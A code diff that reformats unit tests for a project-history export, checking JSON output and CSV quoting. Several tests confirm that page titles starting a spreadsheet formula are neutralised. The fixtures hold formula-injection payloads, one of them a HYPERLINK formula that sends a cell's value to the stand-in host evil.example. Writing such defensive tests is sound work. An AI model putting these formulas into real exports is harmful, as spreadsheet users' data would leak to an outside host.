@@ -14,7 +14,13 @@ describe('history export', () => {
     const file = exportHistoryJson(history, AT, WORKSPACE);
     expect(file.fileName).toBe('project-history-acme-staging-2026-11-21.json');
     expect(file.mimeType).toBe('application/json');
-    expect(JSON.parse(file.text)).toEqual({ format: HISTORY_EXPORT_FORMAT, version: 1, exportedAt: AT.toISOString(), workspace: WORKSPACE, projects: history });
+    expect(JSON.parse(file.text)).toEqual({
+      format: HISTORY_EXPORT_FORMAT,
+      version: 1,
+      exportedAt: AT.toISOString(),
+      workspace: WORKSPACE,
+      projects: history,
+    });
   });
 
   it('CSV: a header, one quoted-as-needed row per project, and formulas defused', () => {
@@ -27,7 +33,12 @@ describe('history export', () => {
       ['prj_1a2b3c', 'https://example.com/articles/42', 'Article 42', '2026-11-01T09:30:00.000Z'],
       ['prj_4d5e6f', 'https://Example.com:443/articles/42#comments', 'Article 42 (again)', '2026-11-02T14:05:00.000Z'],
       // A page title that a spreadsheet would run: a leading apostrophe makes it text.
-      ['prj_7a8b9c', 'https://docs.example.org/guide?lang=en', `'=HYPERLINK("https://evil.example","Guide")`, '2026-11-03T08:00:00.000Z'],
+      [
+        'prj_7a8b9c',
+        'https://docs.example.org/guide?lang=en',
+        `'=HYPERLINK("https://evil.example","Guide")`,
+        '2026-11-03T08:00:00.000Z',
+      ],
     ]);
     expect(file.text.endsWith('\r\n')).toBe(true);
   });
@@ -35,12 +46,16 @@ describe('history export', () => {
   it('CSV guards a page title that starts a formula and contains a line break', () => {
     const title = '=HYPERLINK("https://evil.example/?u="&B2,"Guide")\nmore';
     const entries = [{ projectId: 'p', projectUrl: '-1+2', projectName: title, createdAt: 'x' }];
-    const rows = Papa.parse<string[]>(exportHistoryCsv(entries, AT, WORKSPACE).text.trimEnd(), { newline: '\r\n' }).data;
+    const rows = Papa.parse<string[]>(exportHistoryCsv(entries, AT, WORKSPACE).text.trimEnd(), {
+      newline: '\r\n',
+    }).data;
     expect(rows[1]).toEqual(['p', "'-1+2", `'${title}`, 'x']);
   });
 
   it('CSV keeps commas, quotes and line breaks inside one field', () => {
-    const tricky = [{ projectId: 'p', projectUrl: 'https://e.com/?a=1,2', projectName: 'Say "hi",\nthen go', createdAt: 'x' }];
+    const tricky = [
+      { projectId: 'p', projectUrl: 'https://e.com/?a=1,2', projectName: 'Say "hi",\nthen go', createdAt: 'x' },
+    ];
     const rows = Papa.parse<string[]>(exportHistoryCsv(tricky, AT, WORKSPACE).text.trimEnd(), { newline: '\r\n' }).data;
     expect(rows[1]).toEqual(['p', 'https://e.com/?a=1,2', 'Say "hi",\nthen go', 'x']);
   });
